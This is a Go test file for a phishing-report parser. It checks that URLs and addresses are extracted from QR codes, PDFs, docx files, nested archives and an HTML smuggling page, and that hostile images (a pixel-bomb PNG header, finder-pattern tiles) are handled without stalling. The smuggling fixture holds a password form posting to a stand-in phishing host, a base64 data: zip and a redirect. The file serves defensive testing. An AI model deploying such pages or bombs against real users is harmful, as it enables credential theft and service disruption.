package parser

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/draw"
	"image/jpeg"
	"image/png"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"
)

// part is one MIME part of a test mail.
type part struct {
	ctype, filename, disposition, cid string
	data                              []byte
}

// mailParts builds a report as a mail client writes one: a text part,
// then the parts given, each in base64.
func mailParts(text string, parts ...part) []byte {
	var b strings.Builder
	b.WriteString("From: Lea Roux <lea.roux@chu-ouest.example.fr>\r\nTo: report@league.example\r\n")
	b.WriteString("Subject: Fwd: is this a phish?\r\nMessage-ID: <recall-1@chu-ouest.example.fr>\r\nDate: Tue, 24 Nov 2026 08:00:00 +0100\r\n")
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"sep\"\r\n\r\n")
	b.WriteString("--sep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text + "\r\n")
	for _, p := range parts {
		fmt.Fprintf(&b, "--sep\r\nContent-Type: %s", p.ctype)
		if p.filename != "" {
			fmt.Fprintf(&b, "; name=\"%s\"\r\nContent-Disposition: %s; filename=\"%s\"", p.filename, p.disposition, p.filename)
		}
		if p.cid != "" {
			fmt.Fprintf(&b, "\r\nContent-ID: <%s>", p.cid)
		}
		b.WriteString("\r\nContent-Transfer-Encoding: base64\r\n\r\n")
		enc := base64.StdEncoding.EncodeToString(p.data)
		for len(enc) > 76 {
			b.WriteString(enc[:76] + "\r\n")
			enc = enc[76:]
		}
		b.WriteString(enc + "\r\n")
	}
	b.WriteString("--sep--\r\n")
	return []byte(b.String())
}

// qrPicture is a QR code of text on a white page, as a phish pastes it.
func qrPicture(t testing.TB, text string) image.Image {
	m, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, 240, 240, nil)
	if err != nil {
		t.Fatal(err)
	}
	page := image.NewRGBA(image.Rect(0, 0, 600, 400))
	draw.Draw(page, page.Bounds(), image.NewUniform(color.White), image.Point{}, draw.Src)
	draw.Draw(page, image.Rect(180, 80, 420, 320), m, image.Point{}, draw.Src)
	return page
}

func pngOf(t testing.TB, img image.Image) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func jpegOf(t testing.TB, img image.Image) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 85}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// onePagePDF writes a PDF as simple producers do: a page of text, a link
// annotation, a picture, a classic xref table.
func onePagePDF(t testing.TB, text, uri string, picture []byte) []byte {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	fmt.Fprintf(w, "BT /F1 12 Tf 72 720 Td (%s) Tj ET q 240 0 0 240 72 300 cm /Im1 Do Q", text)
	w.Close()
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] /Resources << /XObject << /Im1 6 0 R >> >> >>",
		fmt.Sprintf("<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", z.Len(), z.Bytes()),
		fmt.Sprintf("<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /URI /URI (%s) >> >>", uri),
		fmt.Sprintf("<< /Type /XObject /Subtype /Image /Width 600 /Height 400 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream", len(picture), picture),
	}
	var out bytes.Buffer
	out.WriteString("%PDF-1.4\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&out, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return out.Bytes()
}

func zipOf(t testing.TB, files ...[2]string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		fw, err := w.Create(f[0])
		if err != nil {
			t.Fatal(err)
		}
		fw.Write([]byte(f[1]))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func docxWithLink(t testing.TB, text, link string, picture []byte) []byte {
	return zipOf(t,
		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`},
		[2]string{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>` + text + `</w:t></w:r></w:p></w:body></w:document>`},
		[2]string{"word/_rels/document.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="` + link + `" TargetMode="External"/></Relationships>`},
		[2]string{"word/media/image1.png", string(picture)},
	)
}

func TestParseRecall(t *testing.T) {
	sevenZip, err := os.ReadFile("archive/testdata/encrypted.7z")
	if err != nil {
		t.Fatal(err)
	}
	smuggled := zipOf(t, [2]string{"Remittance.txt", "pay at https://smuggled-zip.example-phish.top/remit"})
	page := `<html><body><form action="https://creds.example-phish.top/post.php"><input type=password></form>
<script>var d = atob("` + base64.StdEncoding.EncodeToString([]byte(`<a href="https://atob-page.example-phish.top/x">Open</a>`)) + `");
var a = document.createElement("a"); a.href = "data:application/zip;base64,` + base64.StdEncoding.EncodeToString(smuggled) + `";
window.location.href = "https://redirect.example-phish.top/r";</script></body></html>`
	tests := []struct {
		name  string
		parts []part
		want  []want
	}{
		{"inline QR code in an HTML mail", []part{
			{ctype: "text/html; charset=utf-8", data: []byte(`<p>Scan to keep your mailbox</p><img src="cid:qr1@x">`)},
			{ctype: "image/png", filename: "image001.png", disposition: "inline", cid: "qr1@x", data: pngOf(t, qrPicture(t, "https://quishing-inline.example-phish.top/mfa?id=7"))},
		}, []want{{"url", "https://quishing-inline.example-phish.top/mfa?id=7", LayerReport, "qr:image001.png"},
			{"domain", "quishing-inline.example-phish.top", LayerReport, "qr:image001.png"}}},
		{"QR code in an attached JPEG", []part{
			{ctype: "image/jpeg", filename: "scan.jpg", disposition: "attachment", data: jpegOf(t, qrPicture(t, "https://quishing-jpeg.example-phish.top/"))},
		}, []want{{"url", "https://quishing-jpeg.example-phish.top/", LayerReport, "qr:scan.jpg"}}},
		{"PDF: link, text and QR code", []part{
			{ctype: "application/pdf", filename: "Invoice 118.pdf", disposition: "attachment", data: onePagePDF(t,
				"Review at https://pdf-text.example-phish.top/review", "https://pdf-annot.example-phish.top/login",
				jpegOf(t, qrPicture(t, "https://pdf-qr.example-phish.top/scan")))},
		}, []want{
			{"url", "https://pdf-annot.example-phish.top/login", LayerReport, "pdf-link:Invoice 118.pdf"},
			{"url", "https://pdf-text.example-phish.top/review", LayerReport, "pdf:Invoice 118.pdf"},
			{"url", "https://pdf-qr.example-phish.top/scan", LayerReport, "qr:Invoice 118.pdf"},
		}},
		{"docx: hyperlink, text and a QR code picture", []part{
			{ctype: "application/octet-stream", filename: "Payslip.docx", disposition: "attachment", data: docxWithLink(t,
				"Questions: hr@payroll-desk.example", "https://docx-link.example-phish.top/hr", pngOf(t, qrPicture(t, "https://docx-qr.example-phish.top/")))},
		}, []want{
			{"url", "https://docx-link.example-phish.top/hr", LayerReport, "office-link:Payslip.docx"},
			{"email", "hr@payroll-desk.example", LayerReport, "office:Payslip.docx"},
			{"url", "https://docx-qr.example-phish.top/", LayerReport, "qr:Payslip.docx"},
		}},
		{"HTML smuggling page", []part{
			{ctype: "text/html", filename: "Remittance.htm", disposition: "attachment", data: []byte(page)},
		}, []want{
			{"url", "https://creds.example-phish.top/post.php", LayerReport, "html:action"},
			{"url", "https://redirect.example-phish.top/r", LayerReport, "html:location"},
			{"url", "https://atob-page.example-phish.top/x", LayerReport, "html-payload:Remittance.htm"},
			{"url", "https://smuggled-zip.example-phish.top/remit", LayerReport, "attachment:Remittance.txt"},
		}},
		{"7z encrypted with infected, in a zip", []part{
			{ctype: "application/zip", filename: "samples.zip", disposition: "attachment", data: zipOf(t, [2]string{"inner/sample.7z", string(sevenZip)})},
		}, []want{{"url", "https://c2.example-phish.top/gate.php", LayerReport, "attachment:sample.txt"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := Parse(mailParts("Please check the attached, it looks like a phish.", tt.parts...), testOpts)
			for _, w := range tt.want {
				i := slices.IndexFunc(m.Indicators, func(ind Indicator) bool { return ind.Type == w.typ && ind.Value == w.value })
				if i < 0 {
					t.Errorf("no %s %s in %+v (errors %q)", w.typ, w.value, m.Indicators, m.Errors)
					continue
				}
				if ind := m.Indicators[i]; !slices.Contains(ind.Sources, w.source) || !slices.Contains(ind.Layers, w.layer) {
					t.Errorf("%s: sources %q layers %q, want %q in %q", w.value, ind.Sources, ind.Layers, w.source, w.layer)
				}
			}
			if len(m.Errors) > 0 {
				t.Errorf("errors: %q", m.Errors)
			}
		})
	}
}

func TestParseRecallNesting(t *testing.T) {
	// The 7z holds a zip holding a text: at depth 2 under the mail.
	plain, err := os.ReadFile("archive/testdata/plain.7z")
	if err != nil {
		t.Fatal(err)
	}
	m := Parse(mailParts("see attached", part{ctype: "application/x-7z-compressed", filename: "plain.7z", disposition: "attachment", data: plain}), testOpts)
	if !has(m, "url", "https://nested-in-7z.example-phish.top/x", "") {
		t.Errorf("zip in 7z not read: %+v", m.Attachments)
	}
	// Past the mail's nesting limit, the inner archive is listed, not opened.
	opts := testOpts
	opts.Limits.MaxNesting = 1
	m = Parse(mailParts("see attached", part{ctype: "application/x-7z-compressed", filename: "plain.7z", disposition: "attachment", data: plain}), opts)
	if has(m, "url", "https://nested-in-7z.example-phish.top/x", "") || !slices.ContainsFunc(m.Errors, func(e string) bool { return strings.Contains(e, "nested") }) {
		t.Errorf("zip in 7z read past MaxNesting 1: errors %q", m.Errors)
	}
}

func TestParseRecallHostile(t *testing.T) {
	// A PDF that is not one, a picture whose header declares a billion
	// pixels, and 485 bytes of PNG tiled with 900 QR finder patterns, which
	// kept gozxing choosing among their triples for 200 s: errors, no
	// panic, no stall, the mail still parsed.
	ihdr := []byte("IHDR\x00\x00\x80\x00\x00\x00\x80\x00\x08\x00\x00\x00\x00") // 32768 x 32768, 8-bit grey
	bomb := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), ihdr...)
	bomb = binary.BigEndian.AppendUint32(bomb, crc32.ChecksumIEEE(ihdr))
	tiles, err := os.ReadFile("testdata/finder-tiles.png")
	if err != nil {
		t.Fatal(err)
	}
	m := Parse(mailParts("see https://still-found.example/", part{ctype: "application/pdf", filename: "x.pdf", disposition: "attachment", data: []byte("%PDF-1.7\ngarbage")},
		part{ctype: "image/png", filename: "huge.png", disposition: "attachment", data: bomb},
		part{ctype: "image/png", filename: "tiles.png", disposition: "attachment", data: tiles}), testOpts)
	if !has(m, "url", "https://still-found.example/", "") {
		t.Error("the mail's own text lost")
	}
	joined := strings.Join(m.Errors, "\n")
	if !strings.Contains(joined, `"x.pdf"`) || !strings.Contains(joined, `"huge.png"`) {
		t.Errorf("errors %q: want x.pdf and huge.png named", m.Errors)
	}
	if !strings.Contains(joined, `"tiles.png": qr: too many candidate finder patterns`) {
		t.Errorf("errors %q: want tiles.png said not searched", m.Errors)
	}
}

func TestParseQRBudget(t *testing.T) {
	// Five A4 pages scanned at 300 dpi: four are searched, the fifth is
	// not, and the mail says so once.
	page := image.NewGray(image.Rect(0, 0, 2480, 3508))
	draw.Draw(page, page.Bounds(), image.NewUniform(color.White), image.Point{}, draw.Src)
	scan := pngOf(t, page)
	var parts []part
	for i := 1; i <= 5; i++ {
		parts = append(parts, part{ctype: "image/png", filename: fmt.Sprintf("scan%d.png", i), disposition: "attachment", data: scan})
	}
	m := Parse(mailParts("scans attached", parts...), testOpts)
	var over []string
	for _, e := range m.Errors {
		if strings.Contains(e, "pixels searched for QR codes") {
			over = append(over, e)
		}
	}
	if len(over) != 1 || !strings.Contains(over[0], "scan5.png") {
		t.Errorf("errors %q: want one naming scan5.png", m.Errors)
	}
}
